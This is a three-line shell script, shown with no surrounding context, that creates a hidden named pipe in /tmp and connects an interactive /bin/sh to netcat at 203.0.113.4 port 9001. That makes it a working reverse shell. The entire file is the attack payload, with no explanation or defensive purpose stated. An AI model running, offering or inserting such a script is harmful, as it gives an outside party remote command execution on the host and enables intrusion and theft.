#!/bin/sh
rm -f /tmp/.p; mkfifo /tmp/.p
cat /tmp/.p | /bin/sh -i 2>&1 | nc 203.0.113.4 9001 > /tmp/.p
